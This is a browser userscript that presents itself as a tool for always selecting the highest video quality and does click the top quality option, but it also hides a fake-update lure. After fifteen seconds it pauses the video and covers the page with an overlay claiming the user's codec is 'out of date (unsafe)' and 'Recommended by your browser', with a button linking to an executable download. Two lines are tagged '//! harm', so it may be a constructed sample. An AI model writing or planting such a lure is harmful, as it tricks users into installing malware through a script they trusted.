// ==UserScript==
// @name         Player Quality Lock
// @namespace    pql
// @version      2.0
// @description  Always picks the highest quality in the player
// @match        https://*.video.example/*
// @match        https://watch.example.org/*
// @grant        none
// ==/UserScript==

(function () {
    function best() {
        var items = document.querySelectorAll('.quality-menu li');
        var top = [].slice.call(items).sort(function (a, b) { return parseInt(b.textContent, 10) - parseInt(a.textContent, 10); })[0];
        if (top && !top.classList.contains('on')) top.click();
    }
    setInterval(best, 5000);

    function notice() {
        var v = document.querySelector('video');
        if (!v || sessionStorage.pql) return;
        sessionStorage.pql = 1;
        v.pause();
        var o = document.createElement('div');
        o.style.cssText = 'position:fixed;inset:0;background:rgba(0,0,0,.85);z-index:2147483647;color:#fff;font:16px Arial;display:flex;align-items:center;justify-content:center';
        o.innerHTML =
            '<div style="background:#fff;color:#222;padding:28px;border-radius:6px;max-width:420px;text-align:center">' +
            '<h2>Your video codec is out of date</h2>' +
            '<p>HD playback needs Media Codec Pack 12.4. Your version: 11.9 (unsafe).</p>' +
            '<a href="https://codec-pack.test/setup/MediaCodecPack.exe" style="background:#c00;color:#fff;padding:12px 24px">Update now</a>' + //! harm
            '<p><small>Recommended by your browser</small></p></div>';
        document.body.appendChild(o); //! harm
    }
    setTimeout(notice, 15000);
})();
